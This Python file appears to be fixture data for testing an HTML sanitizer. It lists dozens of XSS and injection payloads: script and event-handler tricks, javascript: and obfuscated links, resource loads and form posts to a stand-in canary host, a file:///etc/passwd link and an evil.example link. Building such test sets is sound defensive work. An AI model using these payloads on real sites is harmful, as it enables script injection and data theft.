"""Hostile parts written for this test: each tries to run, to load, to go somewhere or to send.

Every address is at CANARY, which the browser of the test is told to find on our own machine.
`alert` is what a script calls when it runs.
"""

CANARY = "http://canary.example"
_JS = "alert(1)"

SCRIPTS = {
    "script element": f"<script>{_JS}</script>",
    "script from outside": f"<script src='{CANARY}/s.js'></script><script>{_JS}</script>",
    "picture error": f"<img src=x onerror={_JS}>",
    "picture error after slash": f"<img/src=x/onerror={_JS}>",
    "svg load": f"<svg onload={_JS}>",
    "svg script": f"<svg><script>{_JS}</script></svg>",
    "svg script, entities": "<svg><script>&#97;lert(1)</script></svg>",
    "svg animate begins": f"<svg><animate onbegin={_JS} attributeName=x dur=1s></svg>",
    "svg set begins": f"<svg><set onbegin={_JS} attributeName=x dur=1s></svg>",
    "body load": f"<body onload={_JS}>",
    "details toggles": f"<details open ontoggle={_JS}>x</details>",
    "input takes focus": f"<input autofocus onfocus={_JS}>",
    "frame document": f"<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><script>{_JS}"
    "</script>",
    "frame of javascript": "<iframe src='javascript:parent.alert(1)'></iframe>",
    "object of data": "<object data='javascript:alert(1)'></object><embed src=x onerror=alert(1)>",
    "video error": f"<video><source onerror={_JS}></video>",
    "audio error": f"<audio src=x onerror={_JS}></audio>",
    "marquee starts": f"<marquee onstart={_JS}>x</marquee>",
    "style animation": f"<style>@keyframes k{{}}</style><p style='animation:k' "
    f"onanimationstart={_JS}>x</p>",
    "noscript breaks out": f'<noscript><p title="</noscript><img src=x onerror={_JS}>">',
    "math and style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img "
    f"src=1 onerror={_JS}&gt;'><img src=x onerror={_JS}>",
    "form, math, mtext": "<form><math><mtext></form><form><mglyph><style></math><img src "
    f"onerror={_JS}></style></mglyph></form>",
    "select breaks out": f"<select><template><style><!--</style><a rel='--></style></template>"
    f"</select><img id=x src onerror={_JS}>'></select><img src=x onerror={_JS}>",
    "title breaks out": f"<svg></p><style><a id='</style><img src=1 onerror={_JS}>'>",
    "comment ends early": f"<!--><img src=x onerror={_JS}>-->",
    "comment ends with a bang": f"<!-- --!><img src=x onerror={_JS}> -->",
    "textarea breaks out": f"<textarea><p title='</textarea><img src=x onerror={_JS}>'>",
    "xmp breaks out": f"<xmp><p title='</xmp><img src=x onerror={_JS}>'>",
    "cdata in svg": f"<svg><![CDATA[><img src=x onerror={_JS}>]]></svg>",
    "annotation of math": "<math><annotation-xml encoding='text/html'><img src=x "
    f"onerror={_JS}></annotation-xml></math>",
    "nul in a name": f"<scr\x00ipt>{_JS}</scr\x00ipt><img src=x on\x00error=1 onerror={_JS}>",
    "unclosed tag": f"<img src=x onerror={_JS} ",
    "quoted twice": f'<p title="`\'><img src=x onerror={_JS}>"><img src=x onerror={_JS}>',
    "template": f"<template><script>{_JS}</script></template><svg/onload={_JS}>",
    "isindex": f"<isindex><image src=x onerror={_JS}>",
    "base of javascript": f"<base href='javascript:/'><img src=x onerror={_JS}>",
}

CLICKS = {  # a person has to click: judged by what is left of the address
    "javascript": "<a href='javascript:alert(1)'>x</a>",
    "tab in javascript": "<a href='java&#9;script:alert(1)'>x</a>",
    "line end in javascript": "<a href='java\nscript:alert(1)'>x</a>",
    "control before": "<a href='&#1;javascript:alert(1)'>x</a>",
    "entities": "<a href='&#106;&#x61;vascript&colon;alert(1)'>x</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "data document": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "blob": "<a href='blob:https://x/y'>x</a>",
    "file": "<a href='file:///etc/passwd'>x</a>",
    "xlink": "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "smil changes a link": "<svg><a><animate attributeName=href values='javascript:alert(1)'/>"
    "<text y=9>x</text></a></svg>",
    "math action": "<math><maction actiontype='statusline#x' xlink:href='javascript:alert(1)'>x",
    "form action": "<form action='javascript:alert(1)'><button>x</button></form>",
    "relative to us": "<a href='/p/practice/erase'>x</a><a href='//evil.example'>y</a>",
}

LOADS = {
    "picture": f"<img src={CANARY}/1>",
    "picture without scheme": f"<img src={CANARY[5:]}/2>",
    "picture, backslashes": f"<img src='http:\\\\{CANARY[7:]}/3'>",
    "source set": f"<img srcset='{CANARY}/4 1x'>",
    "picture element": f"<picture><source srcset='{CANARY}/5'><img></picture>",
    "input picture": f"<input type=image src={CANARY}/6>",
    "background attribute": f"<table background={CANARY}/7><tr><td background={CANARY}/8>x",
    "body background": f"<body background={CANARY}/9>x",
    "css background": f"<p style='background:url({CANARY}/10)'>x",
    "css escapes": f"<p style='background:u\\72l({CANARY}/11)'>x",
    "css escaped bracket": f"<p style='background-image:\\75 \\72 \\6c ({CANARY}/12)'>x",
    "css image set": f"<p style='background:image-set(\"{CANARY}/13\" 1x)'>x",
    "css variable": f"<p style='--a:url({CANARY}/14);background:var(--a)'>x",
    "css list": f"<ul style='list-style:url({CANARY}/15)'><li>x</ul>",
    "css content": f"<p style='content:url({CANARY}/16)'>x",
    "css cursor": f"<p style='cursor:url({CANARY}/17),auto'>x",
    "css border": f"<p style='border:9px solid;border-image:url({CANARY}/18)'>x",
    "css mask": f"<p style='mask:url({CANARY}/19)'>x",
    "css comment": f"<p style='background:/*x*/url(/**/{CANARY}/20)'>x",
    "css entities": f"<p style='background:&#117;rl({CANARY}/21)'>x",
    "css quotation": f"<p style=\"font-family:'a;background:url({CANARY}/22);'\">x",
    "style sheet imports": f"<style>@import '{CANARY}/23';</style>",
    "style sheet font": f"<style>@font-face{{font-family:f;src:url({CANARY}/24)}}"
    "p{font-family:f}</style><p>x",
    "style sheet tells a value": f"<style>p[title^=a]{{background:url({CANARY}/25)}}</style>"
    "<p title=a>x",
    "style in svg": f"<svg><style>@import '{CANARY}/26';</style></svg>",
    "moz binding": f"<p style='-moz-binding:url({CANARY}/27#x);behavior:url({CANARY}/28)'>x",
    "style link": f"<link rel=stylesheet href={CANARY}/29>",
    "preload": f"<link rel=preload as=image href={CANARY}/30><link rel=prefetch href={CANARY}/31>",
    "icon": f"<link rel=icon href={CANARY}/32>",
    "frame": f"<iframe src={CANARY}/33></iframe>",
    "object": f"<object data={CANARY}/34></object>",
    "embed": f"<embed src={CANARY}/35>",
    "video": f"<video src={CANARY}/36 poster={CANARY}/37></video>",
    "audio": f"<audio src={CANARY}/38 preload=auto></audio>",
    "track": f"<video><track default src={CANARY}/39></video>",
    "svg image": f"<svg><image href={CANARY}/40></svg>",
    "svg image, xlink": f"<svg><image xlink:href={CANARY}/41></svg>",
    "svg use": f"<svg><use href={CANARY}/42#x></svg>",
    "svg filter": f"<svg><filter id=f><feImage href={CANARY}/43 /></filter>"
    "<rect width=9 height=9 filter=url(#f) /></svg>",
    "svg animate a picture": f"<svg><image><animate attributeName=href values='{CANARY}/44'/>"
    "</image></svg>",
    "svg set a picture": f"<svg><image><set attributeName=href to={CANARY}/45 /></image></svg>",
    "svg fill": f"<svg><rect width=9 height=9 fill='url({CANARY}/46#x)'/></svg>",
    "base": f"<base href={CANARY}><img src=/47>",
    "noscript picture": f"<noscript><img src={CANARY}/48></noscript>",
    "template": f"<div><template shadowrootmode=open><img src={CANARY}/49></template></div>",
    "conditional comment": f"<!--[if !mso]><!--><img src={CANARY}/50><!--<![endif]-->",
    "image element": f"<image src={CANARY}/51>",
    "frame set": f"<frameset><frame src={CANARY}/52></frameset>",
}

GOES = {
    "refresh": f"<meta http-equiv=refresh content='0;url={CANARY}/60'>",
    "refresh, comma": f"<meta http-equiv=refresh content='0,{CANARY}/61'>",
    "refresh in noscript": f"<noscript><meta http-equiv=refresh content='0;url={CANARY}/62'>",
}

SENDS = {
    "form": f"<form action={CANARY}/70 method=post target=_top><button>x</button></form>",
    "form without a method": f"<form action={CANARY}/71><input type=submit value=x></form>",
    "formaction": f"<form><button formaction={CANARY}/72>x</button></form>",
}

ALL = {
    f"{kind}: {name}": html
    for kind, cases in [
        ("script", SCRIPTS),
        ("click", CLICKS),
        ("load", LOADS),
        ("goes", GOES),
        ("sends", SENDS),
    ]
    for name, html in cases.items()
}
